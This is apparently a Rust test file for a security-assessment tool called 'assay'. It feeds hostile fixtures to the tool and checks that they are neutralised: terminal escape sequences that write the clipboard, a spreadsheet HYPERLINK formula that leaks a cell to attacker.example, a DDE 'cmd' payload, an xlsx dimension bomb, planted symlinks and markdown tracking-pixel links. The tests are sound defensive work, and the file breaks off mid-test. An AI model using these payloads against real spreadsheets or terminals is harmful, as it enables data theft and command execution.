//! Hostile inputs kept as fixtures: escape sequences in names, formula cells, bomb sheets, broken CSV files and
//! out-of-range bundles. Each test here failed before the protection it checks was in place.

mod common;

use std::path::{Path, PathBuf};
#[cfg(unix)]
use std::process::Command;
use std::process::Output;

use assay::domain::Value;
use assay::store::{Store, Table};
#[cfg(unix)]
use common::bin::arg;
use common::bin::{assay, demo_file, text};
use common::workspace::{count, demo_store, empty_store, export_json, import_json, rows};

/// A provider name that writes the clipboard, sets the window title, clears the screen, sends a one-byte CSI and
/// turns the rest of the line around.
const HOSTILE: &str = "Evil\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}gpj.exe\u{7f}";

/// The characters a terminal would act on, found in what a command printed.
fn unsafe_chars(o: &Output) -> Vec<char> {
    text(&o.stdout).chars().chain(text(&o.stderr).chars()).filter(|c| assay::visible::is_unsafe(*c)).collect()
}

/// A demo workspace in `dir` whose first engagement and its providers carry hostile names.
fn hostile_workspace(dir: &Path) -> PathBuf {
    let db = demo_file(dir, "w.db");
    let mut store = Store::open(&db, "tester").expect("open");
    let providers: Vec<i64> = rows(store.conn(), "SELECT id FROM provider WHERE engagement_id = 1", |r| r.get(0));
    store
        .write(|w| {
            w.update(Table::Engagement, 1, &[("name", Value::text(format!("Engagement {HOSTILE}")))])?;
            for p in &providers {
                w.update(Table::Provider, *p, &[("name", Value::text(format!("{HOSTILE} {p}")))])?;
            }
            w.update(Table::Asset, 1, &[("description", Value::text(HOSTILE))]).map(|_| ())
        })
        .expect("write");
    db
}

#[test]
fn escape_sequences_in_names_never_reach_the_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = hostile_workspace(dir.path());
    let db = db.to_str().expect("utf8");
    let runs: Vec<Vec<&str>> = vec![
        vec!["--db", db, "report", "1"],
        vec!["--db", db, "report", "1", "--format", "html"],
        vec!["--db", db, "report", "assets", "1"],
        vec!["--db", db, "export", "1"],
        vec!["--db", db, "export", "--format", "csv", "1", "--out", "csv-out"],
        // An error message that quotes what was typed.
        vec!["--db", db, "report", HOSTILE],
        vec!["--db", db, "report", "Engagement"],
    ];
    for args in &runs {
        let out = assay(dir.path(), args);
        let found = unsafe_chars(&out);
        assert!(found.is_empty(), "assay {args:?} printed {found:?}:\n{}{}", text(&out.stdout), text(&out.stderr));
    }
    // The report still names the provider, with the escape shown.
    let out = assay(dir.path(), &["--db", db, "report", "1"]);
    assert!(text(&out.stdout).contains("Evil␛"), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("\\u{202e}gpj.exe"), "{}", text(&out.stdout));

    // The command line parser quotes what it did not understand.
    let out = assay(dir.path(), &["--db", db, "report", "1", "--format", HOSTILE]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("invalid value 'Evil"), "{}", text(&out.stderr));
    assert!(unsafe_chars(&out).is_empty(), "{:?}", unsafe_chars(&out));
    let out = assay(dir.path(), &["--help"]);
    assert!(out.status.success() && text(&out.stdout).contains("Usage"), "{}", text(&out.stdout));

    // verify quotes a value changed outside assay.
    {
        let conn = rusqlite::Connection::open(db).expect("sqlite");
        conn.execute("UPDATE risk SET title = ?1 WHERE id = (SELECT min(id) FROM risk)", [HOSTILE]).expect("tamper");
    }
    let out = assay(dir.path(), &["--db", db, "verify"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("Evil␛"), "{}", text(&out.stdout));
    let found = unsafe_chars(&out);
    assert!(found.is_empty(), "verify printed {found:?}");
}

#[test]
fn the_json_export_escapes_and_reads_back_the_same() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = hostile_workspace(dir.path());
    let db = db.to_str().expect("utf8");
    let out = assay(dir.path(), &["--db", db, "export", "1", "--out", "b.json"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let json = std::fs::read_to_string(dir.path().join("b.json")).expect("read");
    assert!(!json.chars().any(assay::visible::is_unsafe));
    let (engs, _) = assay::store::bundle::parse(&json).expect("parse");
    let names: Vec<String> =
        engs[0].tables[1].iter().map(|r| r.get("name").to_string()).filter(|n| n.starts_with("Evil")).collect();
    assert!(!names.is_empty() && names.iter().all(|n| n.contains(HOSTILE)), "{names:?}");
}

#[test]
fn the_workbench_screen_shows_no_control_or_bidi_character() {
    let mut store = demo_store();
    store
        .write(|w| {
            w.update(Table::Engagement, 1, &[("name", Value::text(format!("E {HOSTILE}")))])?;
            w.update(Table::Provider, 1, &[("name", Value::text(HOSTILE))]).map(|_| ())
        })
        .expect("write");
    let mut app = common::app_on(store, 120, 40);
    for tab in ['1', '2', '3'] {
        common::press(&mut app, ratatui::crossterm::event::KeyCode::Char(tab));
        let term = common::render(&app);
        let buf = term.backend().buffer();
        let bad: Vec<&str> =
            buf.content.iter().map(|c| c.symbol()).filter(|s| s.chars().any(assay::visible::is_unsafe)).collect();
        assert!(bad.is_empty(), "tab {tab} drew {bad:?}");
    }
}

/// Every way the program prints goes through `assay::visible`: the sources hold no other print macro and no
/// other handle on standard output or error, but for the uses listed here, which carry no outside text.
#[test]
fn every_print_path_goes_through_the_visible_function() {
    // What touches the streams without printing text: asking whether one is a terminal, flushing it, and (in the
    // terminal loop only) crossterm's commands that switch screens and reporting modes, and the terminal backend's
    // output, which writes only the frames `ui::render` draws (every cell cleaned by `visible::scrub_buffer`).
    const HARMLESS: &[&str] = &[
        "stdout().is_terminal()",
        "stderr().is_terminal()",
        "stdin().is_terminal()",
        "stdout().flush()",
        "stderr().flush()",
    ];
    let terminal_control = |name: &str, l: &str| {
        name == "src/tui.rs"
            && (l.contains("execute!(")
                || l == "let mut out = std::io::stdout();"
                || l == "std::io::BufWriter::with_capacity(FRAME_BUFFER, std::io::stdout())")
    };
    // Only the module that makes text visible prints on its own.
    const OWN_PRINTING: &[&str] = &["src/visible.rs"];
    const FORBIDDEN: &[&str] =
        &["println!", "print!", "eprintln!", "eprint!", "dbg!", "stdout()", "stderr()", "io::stdout", "io::stderr"];
    let mut offending = Vec::new();
    let mut files = vec![PathBuf::from("src")];
    while let Some(p) = files.pop() {
        if p.is_dir() {
            for e in std::fs::read_dir(&p).expect("read_dir") {
                files.push(e.expect("entry").path());
            }
            continue;
        }
        let name = p.to_string_lossy().replace('\\', "/");
        if !name.ends_with(".rs") || OWN_PRINTING.contains(&name.as_str()) {
            continue;
        }
        // Unit tests may print as they like, in a file of their own (`mod tests;`) too.
        if name.ends_with("/tests.rs") {
            continue;
        }
        let source = std::fs::read_to_string(&p).expect("read");
        // Unit tests may print as they like.
        let code = source.split("#[cfg(test)]").next().unwrap_or_default();
        for (n, line) in code.lines().enumerate() {
            let l = line.trim();
            if l.starts_with("//") || terminal_control(&name, l) {
                continue;
            }
            let l = HARMLESS.iter().fold(l.to_string(), |l, h| l.replace(h, ""));
            let l = l.as_str();
            for f in FORBIDDEN {
                // A whole token: `eprint!` is not also a `print!`.
                let hit = l
                    .match_indices(f)
                    .any(|(i, _)| i == 0 || !l[..i].ends_with(|c: char| c.is_alphanumeric() || c == '_'));
                if hit {
                    offending.push(format!("{name}:{}: {l}", n + 1));
                    break;
                }
            }
        }
    }
    assert!(offending.is_empty(), "printing around assay::visible:\n{}", offending.join("\n"));
}

/// Text cells a spreadsheet would run as formulas.
const FORMULAS: &[(&str, &str)] = &[
    ("title", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Details\")"),
    ("owner", "+1 555 0100"),
    ("plan", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("description", "-2+3"),
    ("accepted_by", "'=already guarded"),
];

fn formula_store() -> (Store, i64) {
    let mut store = demo_store();
    let risk = count(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
    let values: Vec<(&str, Value)> = FORMULAS.iter().map(|(k, v)| (*k, Value::text(*v))).collect();
    store.write(|w| w.update(Table::Risk, risk, &values)).expect("write");
    (store, risk)
}

#[test]
fn csv_export_neutralises_formulas_and_the_import_gives_them_back() {
    let (mut store, risk) = formula_store();
    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), false).expect("sheets");
    let dir = tempfile::tempdir().expect("tempdir");
    assay::interchange::write_csv(dir.path(), &sheets, false, &mut |_, _| {}).expect("csv");
    let bytes = std::fs::read(dir.path().join("risks.csv")).expect("read");
    let csv_text = text(&bytes);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes.as_slice());
    for rec in reader.records() {
        for cell in rec.expect("record").iter() {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a live formula cell: {cell:?}");
            // A minus leads only numbers (a negative number is a number, not a formula).
            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "a live formula cell: {cell:?}");
        }
    }
    assert!(csv_text.contains("'=HYPERLINK"), "{csv_text}");
    assert!(csv_text.contains("''=already guarded"), "{csv_text}");

    // Read back: the guard comes off, so nothing changes.
    let table = assay::interchange::read_csv(&bytes, "risks.csv").expect("read csv");
    let done = assay::store::registers::import(
        &mut store,
        1,
        assay::store::registers::Register::Risks,
        &table,
        "risks.csv",
        common::today(),
        &mut |_, _| {},
    )
    .expect("import");
    assert_eq!(done.updated, 0, "{done:?}");
    assert_eq!(done.added, 0, "{done:?}");
    for (k, v) in FORMULAS {
        let stored: String =
            store.conn().query_row(&format!("SELECT {k} FROM risk WHERE id = ?1"), [risk], |r| r.get(0)).expect("get");
        assert_eq!(&stored, v);
    }
}

#[test]
fn a_quote_is_taken_off_only_before_a_formula_character_and_only_in_text_columns() {
    let mut store = demo_store();
    let table = assay::store::registers::Table2 {
        headers: [
            "id",
            "tag",
            "description",
            "kind",
            "classification",
            "holder_id",
            "handed_over",
            "accepted_by",
            "expected_return",
            "returned_on",
            "disposition",
            "verified_by",
            "condition",
            "certificate",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect(),
        rows: vec![(
            2,
            ["", "'-LAPTOP-7", "'It's fine", "device", "'@internal", "", "", "", "", "", "", "", "", ""]
                .iter()
                .map(|s| s.to_string())
                .collect(),
        )],
        formula_guards: true,
    };
    assay::store::registers::import(
        &mut store,
        1,
        assay::store::registers::Register::Assets,
        &table,
        "assets.csv",
        common::today(),
        &mut |_, _| {},
    )
    .expect("import");
    let (tag, description, class): (String, String, String) = store
        .conn()
        .query_row("SELECT tag, description, classification FROM asset ORDER BY id DESC LIMIT 1", [], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .expect("asset");
    assert_eq!((tag.as_str(), description.as_str(), class.as_str()), ("-LAPTOP-7", "'It's fine", "@internal"));

    // A guarded number is not a number.
    let mut t2 = table.clone();
    t2.rows[0].1[5] = "'-1".into();
    let e = assay::store::registers::import(
        &mut store,
        1,
        assay::store::registers::Register::Assets,
        &t2,
        "assets.csv",
        common::today(),
        &mut |_, _| {},
    )
    .expect_err("a quoted number");
    assert!(e.to_string().contains("holder_id"), "{e}");
}

#[test]
fn xlsx_export_writes_formula_text_as_strings() {
    let (mut store, risk) = formula_store();
    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), false).expect("sheets");
    let bytes = assay::interchange::xlsx_bytes(&sheets, &mut |_, _| {}).expect("xlsx");
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("r.xlsx");
    std::fs::write(&path, bytes).expect("write");
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&path).expect("open");
    let formulas = book.worksheet_formula("risks").expect("formulas");
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "the workbook holds formulas");
    let range = book.worksheet_range("risks").expect("range");
    assert!(
        range.used_cells().any(|(_, _, d)| *d == calamine::Data::String(FORMULAS[0].1.to_string())),
        "the title is a string cell"
    );
    drop(book);

    // Read back, every text comes back as it was (a workbook carries no guard to take off).
    let tables = assay::interchange::read_xlsx(&path).expect("read xlsx");
    let list: Vec<_> = tables.iter().map(|(r, t, s)| (*r, t, s.as_str())).collect();
    let done =
        assay::store::registers::import_many(&mut store, 1, &list, common::today(), &mut |_, _| {}).expect("import");
    assert_eq!((done.added, done.updated), (0, 0), "{done:?}");
    for (k, v) in FORMULAS {
        let stored: String =
            store.conn().query_row(&format!("SELECT {k} FROM risk WHERE id = ?1"), [risk], |r| r.get(0)).expect("get");
        assert_eq!(&stored, v);
    }
}

#[test]
fn criminal_record_and_credit_results_of_named_people_are_withheld_by_default() {
    let mut store = demo_store();
    // Everyone's criminal-record check failed and credit check passed: neither may show next to a name.
    let ids: Vec<(i64, String)> = rows(
        store.conn(),
        "SELECT c.id, c.kind FROM vetting_check c JOIN team_member m ON m.id = c.member_id
             JOIN provider p ON p.id = m.provider_id WHERE p.engagement_id = 1 AND c.kind IN ('criminal_record', 'credit')",
        |r| Ok((r.get(0)?, r.get(1)?)),
    );
    assert!(!ids.is_empty());
    store
        .write(|w| {
            for (id, kind) in &ids {
                let status = if kind == "credit" { "passed" } else { "failed" };
                w.update(Table::VettingCheck, *id, &[("status", Value::text(status))])?;
            }
            Ok(())
        })
        .expect("write");
    let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
    let md =
        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", false).expect("report"));
    let vetting = md.split("Vetting and assets").nth(1).expect("section").split("\n## ").next().unwrap_or_default();
    assert!(!vetting.contains("Criminal record") && !vetting.contains("Credit"), "{vetting}");
    // They are counted, not named.
    assert!(vetting.contains("are criminal-record or credit checks, counted but not named (withheld)"), "{vetting}");
    let full =
        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", true).expect("report"));
    assert!(full.contains("Criminal record failed"), "{full}");

    // CSV and XLSX: no status of those checks, in either sheet that could carry one.
    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), false).expect("sheets");
    let members = sheets.iter().find(|s| s.name == "team_members").expect("members");
    for kind in ["criminal_record", "credit"] {
        let col = members.headers.iter().position(|h| h == kind).expect("column");
        assert!(members.rows.iter().all(|r| r[col] == Value::Null), "{kind} shown in team_members");
    }
    let checks = sheets.iter().find(|s| s.name == "vetting_checks").expect("checks");
    let (kind, status) = (
        checks.headers.iter().position(|h| h == "kind").expect("kind"),
        checks.headers.iter().position(|h| h == "status").expect("status"),
    );
    for r in &checks.rows {
        if matches!(&r[kind], Value::Text(k) if k == "criminal_record" || k == "credit") {
            assert_eq!(r[status], Value::text("withheld"));
        }
    }
    let sheets = assay::store::registers::sheets(store.conn(), 1, common::today(), true).expect("sheets");
    assert!(format!("{sheets:?}").contains("failed"));

    // The bundle leaves those checks out; with --include-sensitive they are in.
    let plain = export_json(&store, Some(&[1]), false);
    assert!(!plain.contains("\"criminal_record\"") && !plain.contains("\"credit\""));
    let full = export_json(&store, Some(&[1]), true);
    assert!(full.contains("\"criminal_record\"") && full.contains("\"credit\""));
}

/// A workbook with one sheet named `risks` holding a header cell and one cell at the given place (0-based).
fn sheet_with_a_far_cell(dir: &Path, row: u32, col: u16) -> PathBuf {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.set_name("risks").expect("name");
    ws.write_string(0, 0, "id").expect("header");
    ws.write_number(row, col, 1.0).expect("far cell");
    let path = dir.join(format!("far-{row}-{col}.xlsx"));
    book.save(&path).expect("save");
    path
}

#[test]
fn a_bomb_sheet_is_refused_before_it_is_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    // XFD1048576: a 5 KB file that once asked for 550 GB.
    let bomb = sheet_with_a_far_cell(dir.path(), 1_048_575, 16_383);
    assert!(std::fs::metadata(&bomb).expect("meta").len() < 10_000);
    let e = assay::interchange::read_xlsx(&bomb).expect_err("a bomb");
    assert!(e.to_string().contains("too large") && e.to_string().contains("1048576 rows"), "{e}");
    // Just past either limit.
    let e = assay::interchange::read_xlsx(&sheet_with_a_far_cell(dir.path(), 100_000, 0)).expect_err("rows");
    assert!(e.to_string().contains("100001 rows"), "{e}");
    let e = assay::interchange::read_xlsx(&sheet_with_a_far_cell(dir.path(), 5, 256)).expect_err("columns");
    assert!(e.to_string().contains("257 columns"), "{e}");
    // At the limits, it is read.
    let ok = assay::interchange::read_xlsx(&sheet_with_a_far_cell(dir.path(), 99_999, 255)).expect("at the limits");
    assert_eq!(ok[0].1.rows.len(), 1);
    assert_eq!(ok[0].1.rows[0].0, 100_000);

    // A sheet that declares A1:B2 but holds a cell at XFD1048576 is refused at that cell.
    let e = assay::interchange::read_xlsx(Path::new("tests/data/hostile/dimension-lies.xlsx")).expect_err("lies");
    assert!(e.to_string().contains("row 1048576") && e.to_string().contains("too large"), "{e}");

    // From the command line: one line, a failure code, nothing imported.
    let db = demo_file(dir.path(), "w.db");
    let before = std::fs::read(&db).expect("read");
    let out =
        assay(dir.path(), &["--db", db.to_str().expect("utf8"), "import", bomb.to_str().expect("utf8"), "--into", "1"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("too large") && text(&out.stderr).contains("nothing was imported"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(std::fs::read(&db).expect("read"), before);
}

const RISK_HEADER: &str = "id,catalog_ref,title,description,likelihood,impact_c,impact_i,impact_a,treatment,plan,owner,\
due_date,status,residual_likelihood,residual_c,residual_i,residual_a,accepted_by,accepted_at,review_date";

fn import_risks_csv(store: &mut Store, csv: &str) -> Result<assay::store::registers::Applied, String> {
    let table = assay::interchange::read_csv(csv.as_bytes(), "risks.csv").map_err(|e| e.to_string())?;
    assay::store::registers::import(
        store,
        1,
        assay::store::registers::Register::Risks,
        &table,
        "risks.csv",
        common::today(),
        &mut |_, _| {},
    )
    .map_err(|e| e.to_string())
}

#[test]
fn a_broken_csv_is_refused_naming_the_line() {
    let mut store = demo_store();
    let before = count(&store, "SELECT count(*) FROM risk");
    // The quote opened on line 3 never closes: the rows after it would vanish into one title.
    let csv = format!(
        "{RISK_HEADER}\n,,First,,3,2,2,2,,,,,open,,,,,,,\n,,\"Second,,3,2,2,2,,,,,open,,,,,,,\n\
         ,,Third,,3,2,2,2,,,,,open,,,,,,,\n,,Fourth,,3,2,2,2,,,,,open,,,,,,,\n"
    );
    let e = import_risks_csv(&mut store, &csv).expect_err("unterminated quote");
    assert!(e.contains("row 3") && e.contains("never closed"), "{e}");
    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);

    // A row with more cells than the header.
    let csv = format!("{RISK_HEADER}\n,,First,,3,2,2,2,,,,,open,,,,,,,\n,,Second,,3,2,2,2,,,,,open,,,,,,,,surplus\n");
    let e = import_risks_csv(&mut store, &csv).expect_err("extra cell");
    assert!(e.contains("row 3") && e.contains("column U") && e.contains("beyond the last column"), "{e}");
    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);

    // Quoted cells that close, with doubled quotes and line breaks inside, and a trailing empty cell, are fine.
    let csv = format!(
        "{RISK_HEADER}\n,,\"A \"\"quoted\"\"\nline\",,3,2,2,2,,,,,open,,,,,,,\n,,Plain,,3,2,2,2,,,,,open,,,,,,,,\n"
    );
    let done = import_risks_csv(&mut store, &csv).expect("good csv");
    assert_eq!(done.added, 2);
    let title: String = store
        .conn()
        .query_row("SELECT title FROM risk ORDER BY id DESC LIMIT 1 OFFSET 1", [], |r| r.get(0))
        .expect("t");
    assert_eq!(title, "A \"quoted\"\nline");
}

#[cfg(unix)]
fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).expect("meta").permissions().mode() & 0o777
}

#[cfg(unix)]
#[test]
fn every_output_is_readable_by_its_owner_only() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = demo_file(dir.path(), "w.db");
    let dbs = arg(&db);
    for args in [
        vec!["--db", dbs, "export", "1", "--out", "b.json"],
        vec!["--db", dbs, "export", "1", "--format", "xlsx", "--out", "b.xlsx"],
        vec!["--db", dbs, "export", "1", "--format", "csv", "--out", "regs"],
        vec!["--db", dbs, "report", "1", "--out", "r.md"],
        vec!["--db", dbs, "report", "assets", "1", "--out", "a.md"],
    ] {
        let out = assay(dir.path(), &args);
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
    }
    for f in ["b.json", "b.xlsx", "regs/risks.csv", "regs/assets.csv", "r.md", "a.md"] {
        assert_eq!(mode(&dir.path().join(f)), 0o600, "{f}");
    }
    assert_eq!(mode(&dir.path().join("regs")), 0o700);

    // The Overview's report key: reports/ beside the workspace.
    let store = Store::open(&db, "tester").expect("open");
    let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
    let reports = dir.path().join("reports");
    let paths = assay::report::write_both(store.conn(), &e, &reports, common::today(), "t").expect("report");
    assert_eq!(mode(&reports), 0o700);
    for p in &paths {
        assert_eq!(mode(p), 0o600, "{}", p.display());
    }
    // No temporary file is left anywhere.
    let litter: Vec<_> = std::fs::read_dir(dir.path())
        .expect("list")
        .chain(std::fs::read_dir(&reports).expect("list"))
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains(".part"))
        .collect();
    assert!(litter.is_empty(), "{litter:?}");
}

#[cfg(unix)]
#[test]
fn outputs_never_go_through_a_planted_symlink() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = demo_file(dir.path(), "w.db");
    let dbs = arg(&db);
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("dir");
    std::os::unix::fs::symlink(&elsewhere, dir.path().join("reports")).expect("link");

    // The workbench's report and export keys.
    let store = Store::open(&db, "tester").expect("open");
    let mut app = common::app_on(store, 120, 40);
    app.reports_dir = dir.path().join("reports");
    common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('2'));
    common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('R'));
    common::finish_work(&mut app);
    let screen = common::screen(&app);
    assert!(screen.contains("Report not written") && screen.contains("symbolic link"), "{screen}");
    common::press(&mut app, ratatui::crossterm::event::KeyCode::Char('X'));
    common::finish_work(&mut app);
    let screen = common::screen(&app);
    assert!(screen.contains("Not exported") && screen.contains("symbolic link"), "{screen}");
    let reader = Store::open(&db, "reader").expect("open");
    let e = assay::commands::report::resolve(reader.conn(), "1").expect("engagement");
    let err = assay::report::write_both(reader.conn(), &e, &dir.path().join("reports"), common::today(), "t")
        .expect_err("through a link");
    assert!(err.to_string().contains("symbolic link"), "{err}");
    assert_eq!(std::fs::read_dir(&elsewhere).expect("list").count(), 0, "the link received an output");

    // The command line: a linked folder or file is refused, and what it points at is untouched.
    std::os::unix::fs::symlink(&elsewhere, dir.path().join("regs")).expect("link");
    let target = dir.path().join("precious.txt");
    std::fs::write(&target, "keep me").expect("write");
    std::os::unix::fs::symlink(&target, dir.path().join("r.md")).expect("link");
    for args in [
        vec!["--db", dbs, "export", "1", "--format", "csv", "--out", "regs"],
        vec!["--db", dbs, "report", "1", "--out", "r.md"],
    ] {
        let out = assay(dir.path(), &args);
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        assert!(text(&out.stderr).contains("symbolic link"), "{}", text(&out.stderr));
    }
    assert_eq!(std::fs::read_dir(&elsewhere).expect("list").count(), 0);
    assert_eq!(std::fs::read_to_string(&target).expect("read"), "keep me");
}

/// An export cut short (here by a file size limit, as a full disk would) leaves the earlier file as it was.
#[cfg(unix)]
#[test]
fn a_failed_export_leaves_the_earlier_file_whole() {
    let dir = tempfile::tempdir().expect("tempdir");
    let db = demo_file(dir.path(), "w.db");
    let dbs = arg(&db);
    let good = dir.path().join("good.json");
    std::fs::write(&good, "the earlier, good export").expect("write");
    let out = Command::new("sh")
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 100; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_assay"))
        .args(["--db", dbs, "export", "1", "--out", "good.json"])
        .current_dir(dir.path())
        .env("ASSAY_CONFIG", dir.path().join("no-config.toml"))
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    assert!(text(&out.stderr).contains("cannot write"), "{}", text(&out.stderr));
    assert_eq!(std::fs::read_to_string(&good).expect("read"), "the earlier, good export");
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("list")
        .map(|e| e.expect("e").file_name().to_string_lossy().into())
        .collect();
    assert!(!names.iter().any(|n| n.contains(".part")), "{names:?}");
}

fn demo_bundle() -> serde_json::Value {
    serde_json::from_str(&export_json(&demo_store(), Some(&[1]), true)).expect("json")
}

fn import_bundle(store: &mut Store, v: &serde_json::Value) -> Result<assay::store::bundle::Imported, String> {
    import_json(store, &v.to_string()).map_err(|e| e.to_string())
}

fn first_of<'a>(
    v: &'a mut serde_json::Value,
    table: &str,
    pick: impl Fn(&serde_json::Value) -> bool,
) -> &'a mut serde_json::Value {
    v["engagements"][0][table].as_array_mut().expect("table").iter_mut().find(|r| pick(r)).expect("row")
}

#[test]
fn a_bundle_out_of_the_forms_rules_is_refused() {
    type Spoil = Box<dyn Fn(&mut serde_json::Value)>;
    let cases: Vec<(&str, Spoil, &str)> = vec![
        ("weight 11", Box::new(|v| first_of(v, "criteria", |_| true)["weight"] = 11.into()), "weight"),
        (
            "a free-text date",
            Box::new(|v| first_of(v, "risks", |_| true)["due_date"] = "next Tuesday".into()),
            "due_date",
        ),
        (
            "a relative date",
            Box::new(|v| first_of(v, "assets", |_| true)["expected_return"] = "+30".into()),
            "expected_return",
        ),
        (
            "an unknown catalog item",
            Box::new(|v| first_of(v, "risks", |_| true)["catalog_ref"] = "X-NOPE-1".into()),
            "catalog_ref",
        ),
        (
            "an unknown checklist item",
            Box::new(|v| first_of(v, "checklist_items", |_| true)["catalog_ref"] = "P-99.9".into()),
            "catalog_ref",
        ),
        (
            "a negative count",
            Box::new(|v| first_of(v, "vetting_checks", |r| r["kind"] == "references")["reference_count"] = (-3).into()),
            "reference_count",
        ),
        ("a negative id", Box::new(|v| first_of(v, "risks", |_| true)["id"] = (-5).into()), "id"),
        ("an id near the end", Box::new(|v| first_of(v, "providers", |_| true)["id"] = i64::MAX.into()), "id"),
        (
            "a residual rating given in part",
            Box::new(|v| {
                let r = first_of(v, "risks", |_| true);
                r["residual_likelihood"] = serde_json::Value::Null;
                r["residual_c"] = 2.into();
            }),
            "residual_likelihood",
        ),
        (
            "a name longer than the form takes",
            Box::new(|v| first_of(v, "providers", |_| true)["name"] = "x".repeat(500).into()),
            "name",
        ),
        (
            "a review before the acceptance",
            Box::new(|v| {
                let r = first_of(v, "risks", |_| true);
                r["accepted_by"] = "Board".into();
                r["accepted_at"] = "2026-06-01".into();
                r["review_date"] = "2026-01-01".into();
            }),
            "review_date",
        ),
        (
            "a time that is not one",
            Box::new(|v| first_of(v, "risks", |_| true)["created_at"] = "yesterday".into()),
            "created_at",
        ),
    ];
    for (what, spoil, column) in cases {
        let mut v = demo_bundle();
        spoil(&mut v);
        let mut store = empty_store();
        let e = import_bundle(&mut store, &v).expect_err(what);
        assert!(e.contains(&format!(".{column}: expected")) || e.contains(&format!("), {column}: ")), "{what}: {e}");
        assert_eq!(count(&store, "SELECT count(*) FROM engagement"), 0, "{what}: something was imported");
    }
    // Untouched, it goes in.
    let mut store = empty_store();
    import_bundle(&mut store, &demo_bundle()).expect("the demo bundle");
}

#[test]
fn csv_and_xlsx_imports_refuse_relative_dates_and_unknown_catalog_items() {
    let mut store = demo_store();
    let before = count(&store, "SELECT count(*) FROM risk");
    for (cell, col) in [("t", "due_date"), ("+30", "due_date"), ("+50000000", "due_date"), ("today", "due_date")] {
        let csv = format!("{RISK_HEADER}\n,,Dated,,3,2,2,2,,,,{cell},open,,,,,,,\n");
        let e = import_risks_csv(&mut store, &csv).expect_err(cell);
        assert!(e.contains(col) && e.contains("YYYY-MM-DD"), "{cell}: {e}");
    }
    let csv = format!("{RISK_HEADER}\n,X-NOPE,Unknown,,3,2,2,2,,,,,open,,,,,,,\n");
    let e = import_risks_csv(&mut store, &csv).expect_err("catalog");
    assert!(e.contains("catalog_ref") && e.contains("X-NOPE"), "{e}");
    assert_eq!(count(&store, "SELECT count(*) FROM risk"), before);
    let csv = format!("{RISK_HEADER}\n,G-T2-C1,Known,,3,2,2,2,,,,2027-01-31,open,,,,,,,\n");
    import_risks_csv(&mut store, &csv).expect("a written-out date and a known item");
}

#[test]
fn markdown_reports_keep_no_link_or_image_from_user_text() {
    const PIXEL: &str = "![x](https://attacker.example/p.png)";
    const LINK: &str = "[click](https://attacker.example/login)";
    let mut store = demo_store();
    let risk = count(&store, "SELECT min(id) FROM risk WHERE engagement_id = 1");
    store
        .write(|w| {
            w.update(Table::Engagement, 1, &[("name", Value::text(format!("Payroll {PIXEL}")))])?;
            w.update(Table::Provider, 1, &[("name", Value::text(format!("{LINK} <img src=x> *bold* `code`")))])?;
            w.update(Table::Risk, risk, &[("title", Value::text(format!("# Heading\n{PIXEL}")))])?;
            w.update(Table::Asset, 1, &[("description", Value::text(PIXEL))]).map(|_| ())
        })
        .expect("write");
    let e = assay::commands::report::resolve(store.conn(), "1").expect("engagement");
    let md =
        assay::report::markdown(&assay::report::build(store.conn(), &e, common::today(), "t", false).expect("report"));
    let dir = tempfile::tempdir().expect("tempdir");
    let db = hostile_workspace(dir.path());
    {
        let mut s = Store::open(&db, "t").expect("open");
        s.write(|w| w.update(Table::Asset, 1, &[("description", Value::text(PIXEL))])).expect("write");
    }
    let assets = assay(dir.path(), &["--db", db.to_str().expect("utf8"), "report", "assets", "1"]);
    let assets = text(&assets.stdout);
    for (what, text) in [("report", &md), ("asset form", &assets)] {
        assert!(!text.contains("![x]("), "{what} keeps an image:\n{text}");
        assert!(!text.contains("[click]("), "{what} keeps a link");
        assert!(!text.contains("<img"), "{what} keeps raw HTML");
    }
    assert!(md.contains("!\\[x\\](https://attacker.example/p.png)"), "{md}");
